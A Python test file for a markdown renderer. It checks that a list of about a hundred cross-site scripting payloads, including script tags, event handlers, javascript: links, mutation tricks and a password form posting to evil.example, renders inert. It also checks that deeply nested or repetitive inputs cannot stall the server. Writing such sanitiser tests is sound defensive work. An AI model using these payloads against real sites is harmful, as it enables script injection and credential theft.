"""Hostile texts: what they try to run, and how long they try to keep the server busy."""

import html
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from broadsheet.lib.markdown import Resource, render
from effort import calls, seconds

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "text <script>alert(1)</script> text",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</script>",
    "<div><script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr = 'alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<a href=javascript:alert(1)>x</a>",
    "<a href='  javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#x6a;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/png;base64,AAAA)",
    "[x](vbscript:x)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](data:image/png;base64,AAAA)",
    '![x](x "\\" onerror=\\"alert(1)")',
    '![" onerror="alert(1)](x)',
    "![x](//evil.example/pixel.gif)",
    "![x](https://evil.example/pixel.gif)",
    "![x](\\\\evil.example/pixel.gif)",
    "<img src='https://evil.example/x.png'>",
    "<img src=' //evil.example/x.png'>",
    "<img src='/\t/evil.example/x.png'>",
    "<img srcset='https://evil.example/x.png 2x' src=x>",
    "<picture><source srcset=//evil.example/x><img src=x></picture>",
    "<video src=https://evil.example/x autoplay onplay=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x><applet code=x>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<form action=//evil.example><input name=password><button>Go</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<textarea>x</textarea><select><option>x</select>",
    "<style>body{background:url(//evil.example)}</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example>",
    "<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>",
    "<div onmouseover=alert(1)>x</div>",
    "<a href=x target=_blank onclick=alert(1) formaction=x>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<marquee onstart=alert(1)>x</marquee><bgsound src=x>",
    "<frameset onload=alert(1)><frame src=x></frameset>",
    "<keygen autofocus onfocus=alert(1)>",
    "<isindex type=image src=x onerror=alert(1)>",
    "<x onclick=alert(1)>x</x>",
    "<p is=x-evil>x</p>",
    "<p data-behaviour=submit data-x=1>x</p>",
    "<p aria-label='Sign in' role=dialog tabindex=1 accesskey=x contenteditable>x</p>",
    "```html\n<script>alert(1)</script>\n```",
    '```" onclick="alert(1)\ncode\n```',
    '```x"><script>alert(1)</script>\ncode\n```',
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    '<div title="\n\n```html\n"><script>alert(1)</script> onmouseover=alert(1) x="\n```\n\n">x</div>',
    "<div title='\n\n$<$\n\n'>x</div>",
    r"$\text{<script>alert(1)</script>}$",
    r"$\text{&lt;script&gt;alert(1)&lt;/script&gt;}$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$$\style{background:url(//evil.example)}{x}$$",
    r"$\class{x\" onclick=alert(1)}{x}$",
    r'$\color{red" onclick="alert(1)}{x}$',
    r"$\unicode{<img src=x onerror=alert(1)>}$",
    "# <script>alert(1)</script> {#x}",
    '# x" onclick="alert(1)',
    "# x {#x\"onclick='alert(1)'}",
    "> [!NOTE] <img src=x onerror=alert(1)>\n> x",
    "[^x]\n\n[^x]: <script>alert(1)</script>",
    '[^x"onclick="alert(1)]\n\n[^x"onclick="alert(1)]: y',
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "http://x.example/\"onmouseover=\"alert(1)",
    "http://x.example/'><script>alert(1)</script>",
    "x@x.example\"onclick=\"alert(1)",
    "<http://x.example/\"onclick=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
]  # fmt: skip

ELEMENTS = frozenset(
    """
    a abbr aside b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl dt em
    figcaption figure h2 h3 h4 h5 h6 hr i img ins kbd li mark math menclose mfenced mfrac mi
    mmultiscripts mn mo mover mpadded mphantom mprescripts mroot mrow ms mspace msqrt mstyle msub
    msubsup msup mtable mtd mtext mtr munder munderover none ol p pre progress q rp rt ruby s samp
    section small span strong sub summary sup table tbody td tfoot th thead time tr u ul var wbr
    """.split()  # noqa: SIM905 (a list of ninety strings would be ninety lines)
)
BAD_ATTRIBUTE = re.compile(
    r"on.*|style|is|src(set|doc)|action|formaction|target|xlink:href|accesskey|contenteditable"
)


class Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.ids: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in ELEMENTS:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            if BAD_ATTRIBUTE.fullmatch(name) or (name.startswith("data-") and name != "data-language"):
                self.faults.append(f"{tag} {name}={value}")
            if name in ("href", "src", "cite"):
                address = re.sub(r"[\x00-\x20]", "", html.unescape(value or "")).lower()
                allowed = ("http:", "https:", "mailto:") if name == "href" else ()
                if re.match(r"[a-z][a-z0-9+.-]*:", address) and not address.startswith(allowed):
                    self.faults.append(f"{tag} {name}={value}")
                if name == "src" and address.startswith(("//", "\\\\", "/\\")):
                    self.faults.append(f"{tag} {name}={value}")
            if name == "id":
                self.ids.append(value or "")

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        self.faults.append(f"<!--{data}-->")

    handle_decl = handle_pi = unknown_decl = handle_comment


def inspect(source: str) -> Inspector:
    inspector = Inspector()
    inspector.feed(render(source).html)
    inspector.close()
    return inspector


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize(
    "around", ["{}", "x {} y", "> {}", "- {}", "<div>\n\n{}\n\n</div>", "*x {}*\n\n[x]: /y"]
)
def test_nothing_executable_survives(attack, around):
    assert inspect(around.format(attack)).faults == []


PIECES = [
    *ATTACKS,
    "<", ">", "\"", "'", "`", "*", "_", "~", "[", "]", "(", ")", "!", "$", "$$", "#", "|", ":", "-", "+", "=",
    "\\",
    "&", ";",
    "```", "~~~", "1.", "[^1]", "[!NOTE]", "{#id}", "text", "é", "漢字", "<b>", "</b>", "<p>", "</p>",
    "<div>", "</div>", "<table>", "<tr>", "<td>", "</td>", "</table>", "</a>", "<details>", "<h1>", "</h2>",
    "<a href=x>", "<a name=x>", "\n", "\n\n", "\t", " ", "> ", "- ", "[^1]: ",
    "- [ ] ", "https://x.example/",
    "a@x.example", "\ud800", "\x00",
]  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=25))
def test_any_mixture_is_rendered_safely(pieces):
    source = "".join(pieces)
    inspector = inspect(source)
    assert inspector.faults == []
    assert len(inspector.ids) == len(set(inspector.ids))
    assert not re.search(r"x[0-9a-f]{32}x", render(source).html)  # no placeholder is left


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300))
def test_any_text_is_rendered_safely(source):
    assert inspect(source).faults == []


def test_ids_of_the_page_cannot_be_taken():
    html = render(
        "# Main\n\n# Content {#content}\n\n<p id=main>x</p><a name=navigation></a><p id='fn-1'>y</p>"
    ).html
    assert not re.search(r'id="(main|content|navigation|fn-1)"', html)


def test_anchors_and_links_to_them_keep_working():
    html = render('[go](#old) [top](#main)\n\n<a name="old"></a>\n\nText <a id="main">x</a>').html
    assert 'href="#old"' in html
    assert 'id="old"' in html
    assert 'href="#text-main"' in html
    assert 'id="text-main"' in html


def test_an_id_occurs_once():
    html = render("# Foo\n\n# Foo\n\n<p id=foo>x</p>\n\n<p id=foo>y</p>").html
    assert len(re.findall(r'id="foo"', html)) == 1


def test_raw_html_cannot_reach_out_of_its_container():
    assert render("> <div><b>\n\n*x*").html.index("</blockquote>") < render("> <div><b>\n\n*x*").html.index(
        "<em>"
    )
    assert "</blockquote>" not in render("</blockquote></div></section>\n\nx").html


def test_a_careless_tag_swallows_nothing():
    for tag in (
        "<textarea>",
        "<title>",
        "<script>",
        "<style>",
        "<plaintext>",
        "<select>",
        "<iframe>",
        "<template>",
    ):
        assert "the rest" in render(f"Use the {tag} tag.\n\nAnd the rest.").html


def test_a_placeholder_cannot_be_guessed():
    source = "```\ny\n```\n\nx" + "0" * 32 + "x0."
    assert render(source).html == render(source).html
    assert "x" + "0" * 32 + "x0." in render(source).html


HOSTILE = {
    "quotations": lambda n: ">" * n,
    "spaced quotations": lambda n: "> " * n + "x",
    "lazy quotations": lambda n: "> " * 60 + "a\n" + "b\n" * n,
    "lists": lambda n: "- " * n + "x",
    "stairs": lambda n: "".join("  " * i + "- a\n" for i in range(int(n**0.5))),
    "brackets": lambda n: "[" * n,
    "balanced brackets": lambda n: "[" * n + "]" * n,
    "links in links": lambda n: "[" * n + "a" + "](x)" * n,
    "pictures in pictures": lambda n: "![" * n + "a" + "](x)" * n,
    "open links": lambda n: "[a](" * n,
    "stars": lambda n: "*" * n,
    "open emphasis": lambda n: "*a **b _c " * n,
    "nested emphasis": lambda n: "*a " * n + "b*" * n,
    "nested strong": lambda n: "**a " * n + "b**" * n,
    "backticks": lambda n: "".join("`" * i + " " for i in range(int((2 * n) ** 0.5))),
    "tildes": lambda n: "~a" * n,
    "less than": lambda n: "<" * n,
    "comments": lambda n: "<!-- " * n,
    "inline comments": lambda n: "a<!-- " * n,
    "quotes in tags": lambda n: "<a \"<a '" * n,
    "deep elements": lambda n: "<div>" * n,
    "deep tables": lambda n: "<table><tr><td>" * n,
    "links around blocks": lambda n: "<a href=x><div>" * n,
    "misnested format": lambda n: "<p>" + "".join(f"<b title={i}>" for i in range(n)) + "</p>" + "<p>x" * n,
    "notes": lambda n: "[^a]: " * n + "x",
    "references to notes": lambda n: "[^a]: x\n\n" + "[^a] " * n,
    "open references": lambda n: "[^a]: x\n\n" + "[^" * n,
    "definitions": lambda n: "a\n: b\n" * n,
    "references": lambda n: "[a]: b '\n" * n,
    "tables": lambda n: "|a" * n + "\n" + "|-" * n,
    "dollars": lambda n: "$a " * n,
    "display dollars": lambda n: "$$a\n\n" * n,
    "deep formula": lambda n: "$" + "{" * n + "}" * n + "$",
    "macros": lambda n: "$" + r"\def\a{\b\b}" * n + "$",
    "addresses": lambda n: "http://" * n,
    "brackets behind an address": lambda n: "http://a" + ")." * n,
    "mail": lambda n: "a.@" * n,
    "long mail": lambda n: "a" * n + "@b.example",
    "same headings": lambda n: "# a\n" * n,
    "callouts": lambda n: "".join(">" * i + " [!NOTE]\n" for i in range(1, int((2 * n) ** 0.5))),
    "languages": lambda n: "".join(f"```l{i}\nx\n```\n" for i in range(n)),
    "marks on a letter": lambda n: "# a" + "\u0301" * n,
    "surrogates": lambda n: "\ud800" * n,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_work_grows_with_the_length_alone(name):
    make = HOSTILE[name]
    # What is made once, is made now; and a text that was given up would be no work.
    assert ("<pre" in render(make(1_000)).html) == (name == "languages")
    short, long = calls(render, make(1_000)), calls(render, make(4_000))
    # Four times the text in at most six times the work: the square would be sixteen.
    assert long < 6 * max(short, 1_000)


@pytest.mark.parametrize("name", HOSTILE)
def test_200_kilobytes_of_anything_are_rendered(name):
    make = HOSTILE[name]
    # At most 2.4 s on a quiet machine; an expression that reads on to the end from everywhere takes minutes.
    assert seconds(render, make(200_000_000 // len(make(1_000)))) < 12


def test_depth_is_harmless_even_deep_in_the_stack():
    def deeper(levels: int) -> str:
        return deeper(levels - 1) if levels else render("> " * 400 + "[" * 400 + "x").html

    for levels in (0, 300, 600, 850, 930):
        assert "x" in deeper(levels)


def test_what_is_too_deep_is_text():
    assert "&gt; &gt;" in render("> " * 100 + "end").html
    assert "end" in render("> " * 100 + "end").html
    assert "end" in render("- " * 100 + "end").html
    assert "end" in render("<div>" * 1000 + "end").html


def test_one_hostile_formula_spoils_nothing_else():
    html = render(r"$\newcommand{\a}{\frac}\a{1}{2}$ and $x$ and $\a{1}{2}$").html
    assert html.count("<math") >= 1
    assert "math-error" in html


def test_resolve_decides_what_is_ours():
    html = render("![a](https://us.example/x.png)", resolve=lambda src: Resource("/uploads/x.png", 3, 2)).html
    assert '<img src="/uploads/x.png" alt="a" width="3" height="2"' in html
